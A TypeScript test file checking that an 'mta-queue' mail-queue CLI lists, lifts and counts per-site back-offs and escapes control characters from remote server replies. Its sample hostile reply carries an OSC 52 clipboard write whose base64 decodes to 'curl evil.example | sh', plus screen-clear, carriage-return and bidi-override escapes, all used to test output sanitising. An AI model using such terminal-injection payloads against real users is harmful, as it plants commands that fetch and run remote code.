import assert from 'node:assert/strict';
import { readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { BackoffStore, type BackoffRecord } from '../../src/spool/backoff-store.js';
import { ensureSpool, spoolLayout, type SpoolLayout } from '../../src/spool/layout.js';
import { runMtaQueue } from '../helpers/daemon-process.js';
import { tempDir } from '../helpers/temp.js';

/**
 * `mta-queue policy show`, `policy resume` and `stats` on the back-offs a spool keeps, through the built CLI as an
 * operator runs it. The replies carry what a hostile MX can send: an OSC 52 clipboard write, a screen clear, a
 * bidi override and a CR that would rewrite the line.
 */

const H = 3_600_000;
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const CLEAR = '\x1b[2J';
const YAHOO = 'mta5.am0.yahoodns.net,mta6.am0.yahoodns.net';
const OUTLOOK = 'hotmail-com.olc.protection.outlook.com';
/** The reply as a terminal must show it: every control a visible escape. */
const ESCAPED_REPLY = '421 4.7.0 [TSS04] \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07deferred\\x1b[2J\\r\\u202eevil';
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/;

describe('mta-queue policy show | resume and stats: the back-offs in force', () => {
  let dir: string;
  let cleanup: () => Promise<void>;
  let layout: SpoolLayout;
  let now: number;
  let suspended: BackoffRecord;
  let suspendedToo: BackoffRecord;
  let throttled: BackoffRecord;
  const spool = () => ['--spool', layout.root];

  before(async () => {
    ({ dir, cleanup } = await tempDir('mta-policy-backoffs-'));
    layout = spoolLayout(path.join(dir, 'spool'));
    await ensureSpool(layout);
    now = Date.now();
    suspended = { site: YAHOO, source: 'default', rule: 'built-in rule 1', action: 'suspend', since: now, until: now + 2 * H, reply: `421 4.7.0 [TSS04] ${OSC52}deferred${CLEAR}\r\u202eevil`, shaping: {} };
    suspendedToo = { ...suspended, source: '127.0.0.2', until: now + 3 * H };
    throttled = { site: OUTLOOK, source: 'default', rule: 'built-in rule 2', action: 'throttle', since: now, until: now + H, reply: '451 4.7.650 rate limited due to IP reputation', shaping: { max_message_rate: '1/min', connection_limit: 1 } };
    const store = new BackoffStore(layout);
    for (const record of [suspended, suspendedToo, throttled]) await store.put(record, now);
    await store.put({ ...throttled, site: 'mx.ended.example', until: now - 1 }, now - 2 * H);
  });
  after(() => cleanup());

  test('policy show lists every back-off in force with its rule, action, end and the reply, escaped', async () => {
    const shown = await runMtaQueue(['policy', 'show', ...spool()]);
    assert.equal(shown.code, 0, shown.stderr);
    assert.doesNotMatch(shown.stdout, RAW_CONTROL, 'no raw control character from a remote reply');
    const lines = shown.stdout.split('\n');
    const at = lines.indexOf('back-offs in force now: 3');
    assert.ok(at > 0, shown.stdout);
    const [first, second, third] = lines.slice(at + 1);
    const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d+Z$/, 'Z');
    const inAbout = (line: string | undefined, ...choices: string[]) => new RegExp(`\\(in (${choices.join('|')})\\)`).exec(line ?? '')?.[0];
    assert.equal(first, `  ${YAHOO} from default: built-in rule 1 → suspend until ${iso(suspended.until)} ${inAbout(first, '1h 59m', '2h')}; reply: ${ESCAPED_REPLY}`);
    assert.equal(second, `  ${YAHOO} from 127.0.0.2: built-in rule 1 → suspend until ${iso(suspendedToo.until)} ${inAbout(second, '2h 59m', '3h')}; reply: ${ESCAPED_REPLY}`);
    assert.equal(third, `  ${OUTLOOK} from default: built-in rule 2 → throttle (max_message_rate=1/min connection_limit=1) until ${iso(throttled.until)} ${inAbout(third, '59m', '1h')}; reply: 451 4.7.650 rate limited due to IP reputation`);
    assert.doesNotMatch(shown.stdout, /mx\.ended\.example/, 'an ended back-off is not shown');

    const json = await runMtaQueue(['policy', 'show', '--json'], { MTA_SPOOL: layout.root });
    assert.equal(json.code, 0, json.stderr);
    assert.deepEqual(JSON.parse(json.stdout).backoffs, [suspended, suspendedToo, throttled], '--json is exact (MTA_SPOOL read)');
  });

  test('policy show without a spool says none', async () => {
    const none = await runMtaQueue(['policy', 'show', '--spool', path.join(dir, 'absent')]);
    assert.equal(none.code, 0, none.stderr);
    assert.match(none.stdout, new RegExp(`^back-offs in force now: none \\(no spool at ${path.join(dir, 'absent').replace(/[.]/g, '\\.')}\\)$`, 'm'));
    assert.deepEqual(JSON.parse((await runMtaQueue(['policy', 'show', '--json', '--spool', path.join(dir, 'absent')])).stdout).backoffs, []);
  });

  test('stats shows the count and each site until when', async () => {
    const human = await runMtaQueue(['stats', ...spool()]);
    assert.equal(human.code, 0, human.stderr);
    assert.doesNotMatch(human.stdout, RAW_CONTROL);
    assert.match(human.stdout, /^back-offs 3 in force\n {2}hotmail-com\.olc\.protection\.outlook\.com from default\tthrottle until \S+ \(in (59m|1h)\)\n {2}mta5\.am0\.yahoodns\.net,mta6\.am0\.yahoodns\.net from default\tsuspend until /m);
    const top = await runMtaQueue(['stats', '--top', '1', ...spool()]);
    assert.match(top.stdout, /^ {2}… and 2 more \(--json lists them all\)$/m);
    const json = await runMtaQueue(['stats', '--json', ...spool()]);
    assert.deepEqual(JSON.parse(json.stdout).backoffs, {
      count: 3,
      sites: [suspended, suspendedToo, throttled].map(({ site, source, action, until }) => ({ site, source, action, until })),
    });
  });

  test('policy resume lifts one source, then the rest of the site; exit 1 with one line when there is none', async () => {
    const one = await runMtaQueue(['policy', 'resume', YAHOO, '--source', '127.0.0.2', ...spool()]);
    assert.equal(one.code, 0, one.stderr);
    assert.match(one.stdout, new RegExp(`^lifted ${YAHOO} from 127\\.0\\.0\\.2: built-in rule 1 suspend, was until \\S+Z \\(in (2h 59m|3h)\\)\\n$`));
    assert.deepEqual(one.logs.map(({ event, site, source, rule }) => ({ event, site, source, rule })), [{ event: 'backoff-lifted', site: YAHOO, source: '127.0.0.2', rule: 'built-in rule 1' }]);

    const rest = await runMtaQueue(['policy', 'resume', YAHOO, ...spool()]);
    assert.equal(rest.code, 0, rest.stderr);
    assert.equal(rest.stdout.split('\n').filter(Boolean).length, 1);
    assert.deepEqual((await new BackoffStore(layout).read(Date.now())).map((record) => record.site), [OUTLOOK]);

    const again = await runMtaQueue(['policy', 'resume', `${YAHOO}\x1b[2J`, ...spool()]);
    assert.equal(again.code, 1);
    assert.equal(again.stdout, '');
    assert.deepEqual(again.errors, [`mta-queue: no back-off in force for ${YAHOO}\\x1b[2J`]);
    const otherSource = await runMtaQueue(['policy', 'resume', OUTLOOK, '--source', '127.0.0.9', ...spool()]);
    assert.deepEqual([otherSource.code, otherSource.errors], [1, [`mta-queue: no back-off in force for ${OUTLOOK} from 127.0.0.9`]]);

    for (const args of [['policy', 'resume', '', ...spool()], ['policy', 'resume', OUTLOOK, '--source', '', ...spool()], ['policy', 'resume', OUTLOOK, '--spool', path.join(dir, 'absent')]]) {
      const refused = await runMtaQueue(args);
      assert.equal(refused.code, 2, args.join(' '));
      assert.equal(refused.errors.length, 1, refused.stderr);
    }
    assert.equal((await new BackoffStore(layout).read(Date.now())).length, 1, 'refused commands changed nothing');
  });

  test('a corrupt back-off file: shown as none, nothing to resume, set aside in corrupt/ with a corrupt log line', async () => {
    await writeFile(path.join(layout.dir('state'), 'backoffs.json'), '{"version":1,"backoffs":[{"site":');
    const shown = await runMtaQueue(['policy', 'show', ...spool()]);
    assert.equal(shown.code, 0, shown.stderr);
    assert.match(shown.stdout, /^back-offs in force now: none$/m);
    assert.equal(shown.logs.length, 1);
    assert.equal(shown.logs[0]!.event, 'corrupt');
    assert.deepEqual((await readdir(layout.dir('corrupt'))).map((name) => /^backoffs-[0-9a-z]+-[0-9a-f]+\.json$/.test(name)), [true]);
    const stats = await runMtaQueue(['stats', '--json', ...spool()]);
    assert.deepEqual(JSON.parse(stats.stdout).backoffs, { count: 0, sites: [] });

    await writeFile(path.join(layout.dir('state'), 'backoffs.json'), `{"version":1,"backoffs":[${CLEAR}`);
    const resume = await runMtaQueue(['policy', 'resume', OUTLOOK, ...spool()]);
    assert.deepEqual([resume.code, resume.errors, resume.logs.map((line) => line.event)], [1, [`mta-queue: no back-off in force for ${OUTLOOK}`], ['corrupt']]);
  });
});
